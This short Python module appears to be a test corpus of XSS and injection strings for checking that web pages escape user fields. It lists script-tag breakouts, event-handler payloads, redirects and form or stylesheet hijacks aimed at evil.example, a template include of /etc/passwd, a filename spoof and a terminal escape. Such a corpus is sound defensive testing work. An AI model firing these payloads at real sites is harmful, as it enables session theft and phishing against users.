"""What attackers write into fields that these pages show: to run a script, to leave its place, to deceive."""

MARKER = "xss"
"""Whatever runs sets this property of the window."""

_RUN = f"window.{MARKER}=1"

CORPUS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<iframe srcdoc="<script>parent.{MARKER}=1</script>"></iframe>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><form action="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>',
    "{{7*7}}{% include '/etc/passwd' %}${7*7}",
    "<!--<script>",
    "]]>",
    "\u202eexe.gpj\u2066",
    "\x1b]0;owned\x07",
    "&lt;script&gt;&#x3c;",
    "\u2028\u2029",
)
